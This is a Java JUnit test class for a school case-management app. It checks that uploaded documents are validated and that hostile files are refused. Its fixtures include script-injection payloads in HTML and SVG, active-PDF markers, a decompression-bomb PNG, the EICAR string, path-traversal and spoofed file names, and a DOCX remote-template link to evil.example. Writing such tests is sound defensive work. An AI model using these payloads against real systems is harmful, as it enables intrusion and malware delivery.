package uk.daymark.cases;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import uk.daymark.WebTest;
import uk.daymark.cases.CaseDocument.About;
import uk.daymark.cases.CaseDocument.FileKind;
import uk.daymark.journal.Journal;
import uk.daymark.people.Pupils;
import uk.daymark.people.Urn;
import uk.daymark.register.web.TwoSchools;
import uk.daymark.web.InvalidInput;

/** The hostile files of group D, 79 to 86, and those that are welcome. */
@WebTest
class KeepingDocumentsTest {

    @LocalServerPort
    private int port;

    @Autowired
    private Cases cases;

    @Autowired
    private CaseDocuments documents;

    @Autowired
    private Journal journal;

    @Autowired
    private Pupils pupils;

    private CaseRef ref = new CaseRef("A-2025-0000");

    @BeforeEach
    void aCase() {
        TwoSchools.exist(port);
        ref = cases.open(
                        pupils.find(new Urn(TwoSchools.OURS), "PG41")
                                .orElseThrow()
                                .enrolment()
                                .id(),
                        "A parent asked.",
                        "")
                .ref();
    }

    private CaseDocument add(String name, byte[] content) {
        return documents.add(ref, About.MEDICAL, "From the surgery", name, new ByteArrayInputStream(content));
    }

    private String refusal(String name, byte[] content) {
        InvalidInput refused = catchThrowableOfType(InvalidInput.class, () -> add(name, content));
        assertThat(refused).as(name).isNotNull();
        assertThat(refused.faults().get(0).pointer()).isEqualTo("/file");
        return refused.faults().get(0).message();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] word(Map<String, String> more) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            put(zip, "[Content_Types].xml", "<Types/>");
            put(zip, "word/document.xml", "<w:document/>");
            for (Map.Entry<String, String> part : more.entrySet()) {
                put(zip, part.getKey(), part.getValue());
            }
        }
        return out.toByteArray();
    }

    private static void put(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(bytes(content));
        zip.closeEntry();
    }

    private static byte[] picture(String format) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(4, 3, BufferedImage.TYPE_INT_RGB), format, out);
        return out.toByteArray();
    }

    /** A PNG that says it is so large, and holds nothing. */
    private static byte[] pngOfSize(int width, int height) {
        ByteBuffer header = ByteBuffer.allocate(17)
                .put(bytes("IHDR"))
                .putInt(width)
                .putInt(height)
                .put(new byte[] {8, 2, 0, 0, 0});
        CRC32 check = new CRC32();
        check.update(header.array());
        return ByteBuffer.allocate(33)
                .put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'})
                .putInt(13)
                .put(header.array())
                .putInt((int) check.getValue())
                .array();
    }

    @Test
    void whatIsWelcomeIsKeptUnderItsHashAndJournalled() throws Exception {
        assertThat(add("evidence.pdf", bytes("%PDF-1.7\n1 0 obj")).kind()).isEqualTo(FileKind.PDF);
        assertThat(add("note.TXT", bytes("Unwell since Monday.\n")).kind()).isEqualTo(FileKind.TEXT);
        assertThat(add("photo.jpeg", picture("jpg")).kind()).isEqualTo(FileKind.JPEG);
        assertThat(add("scan.png", picture("png")).kind()).isEqualTo(FileKind.PNG);
        byte[] words = word(Map.of());
        CaseDocument contract = add("contract.docx", words);
        assertThat(contract.kind()).isEqualTo(FileKind.DOCX);
        assertThat(Files.readAllBytes(documents.file(contract))).isEqualTo(words);
        assertThat(documents.file(contract).getFileName()).hasToString(contract.hash());
        assertThat(documents.of(ref)).contains(contract);
        assertThat(journal.of(ref.value()))
                .extracting(entry -> entry.entry().what())
                .contains("Document added: Medical evidence, contract.docx.");
        CaseDocument again = add("same.txt", bytes("Unwell since Monday.\n"));
        assertThat(Files.readString(documents.file(again))).isEqualTo("Unwell since Monday.\n");
    }

    @Test
    void aPageDressedUpAsAPdfIsKeptAsWhatItBeginsAsAndNeverShown() { // 79
        assertThat(add("both.pdf", bytes("%PDF-1.7\n<html><script>alert(1)</script>"))
                        .kind())
                .isEqualTo(FileKind.PDF);
        assertThat(refusal("both.html", bytes("%PDF-1.7\n<html>"))).contains("do not agree");
        assertThat(refusal("page.pdf", bytes("<html></html>"))).contains("do not agree");
    }

    @Test
    void aPdfThatActsIsRefused() { // 80
        for (String active : new String[] {
            "/JavaScript (app.alert(1))", "/JS 3 0 R", "/Launch", "/EmbeddedFiles 4 0 R", "/J#61vaScript 5 0 R"
        }) {
            assertThat(refusal("active.pdf", bytes("%PDF-1.7\n<< " + active + " >>")))
                    .contains("Print it to a new PDF");
        }
    }

    @Test
    void aDrawingThatIsNoPhotoIsRefused() { // 81
        assertThat(refusal("photo.png", bytes("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")))
                .contains("do not agree");
        assertThat(refusal("photo.svg", bytes("<svg/>"))).contains("do not agree");
    }

    @Test
    void aPictureTooLargeToLookAtIsRefused() { // 82
        assertThat(refusal("huge.png", pngOfSize(50_000, 50_000))).contains("too large");
        assertThat(refusal("broken.jpg", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, 0}))
                .contains("cannot be read");
    }

    @Test
    void aDocumentWhosePartsAreCutShortIsRefused() throws Exception {
        byte[] cut = word(Map.of("word/_rels/document.xml.rels", "<Relationships>" + "x".repeat(200)));
        // The table of contents says that the part is shorter than it is.
        int entry = new String(cut, StandardCharsets.ISO_8859_1).lastIndexOf("word/_rels/document.xml.rels") - 46;
        cut[entry + 20] = 5;
        assertThat(refusal("cut.docx", cut)).isNotBlank();
    }

    @Test
    void theFileThatVirusScannersKnowIsStoppedInAnyKindOfFile() throws Exception {
        String known = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
        assertThat(refusal("a.pdf", bytes("%PDF-1.7\n" + known))).contains("virus scanners");
        ByteArrayOutputStream picture = new ByteArrayOutputStream();
        picture.write(picture("png"));
        picture.write(bytes(known));
        assertThat(refusal("a.png", picture.toByteArray())).contains("virus scanners");
        assertThat(refusal("a.docx", word(Map.of("word/media/image1.bin", known))))
                .contains("virus scanners");
    }

    @Test
    void theFileThatVirusScannersKnowIsStopped() { // 83
        assertThat(refusal(
                        "eicar.txt",
                        bytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")))
                .contains("virus");
    }

    @ParameterizedTest
    @CsvSource({
        "..\\..\\x.txt, x.txt",
        "../../etc/passwd.txt, passwd.txt",
        "con.txt, document-con.txt",
        ".txt, document.txt",
        "fdp\u202Eexe.txt, fdpexe.txt",
        "a\"b<c>.txt, abc.txt",
        "Zo\u00EB.txt, Zo\u00EB.txt"
    })
    void namesAreCleaned(String given, String kept) { // 84
        assertThat(add(given, bytes("text")).name()).isEqualTo(kept);
    }

    @Test
    void aNameOfFiveThousandCharactersIsCut() { // 84
        assertThat(add("n".repeat(5000) + ".txt", bytes("text")).name()).hasSize(104);
    }

    @Test
    void aDocumentThatFetchesOrRunsIsRefused() throws Exception { // 85
        String template =
                "<Relationships><Relationship Type=\"http://x/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
                        + " TargetMode=\"External\"/></Relationships>";
        assertThat(refusal("t.docx", word(Map.of("word/_rels/settings.xml.rels", template))))
                .contains("template");
        assertThat(refusal("m.docx", word(Map.of("word/vbaProject.bin", "x")))).contains("macros");
        String link = template.replace("attachedTemplate", "hyperlink").replace("t.dotm", "");
        assertThat(add("link.docx", word(Map.of("word/_rels/document.xml.rels", link)))
                        .kind())
                .isEqualTo(FileKind.DOCX);
        assertThat(refusal("archive.docx", zipOfAnythingElse())).contains("Choose a PDF");
        assertThat(refusal("broken.docx", bytes("PK\u0003\u0004nothing"))).contains("broken");
    }

    private static byte[] zipOfAnythingElse() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            put(zip, "run.exe", "MZ");
        }
        return out.toByteArray();
    }

    @Test
    void nothingAndTooMuchAreRefusedInWords() { // 86
        assertThat(refusal("empty.pdf", new byte[0])).isEqualTo("The file is empty");
        assertThat(refusal("large.txt", bytes("a".repeat(10 * 1024 * 1024 + 1))))
                .isEqualTo("The file is larger than 10 MB");
        assertThat(refusal("program.exe", new byte[] {'M', 'Z', 0, 1})).contains("Choose a PDF");
    }
}
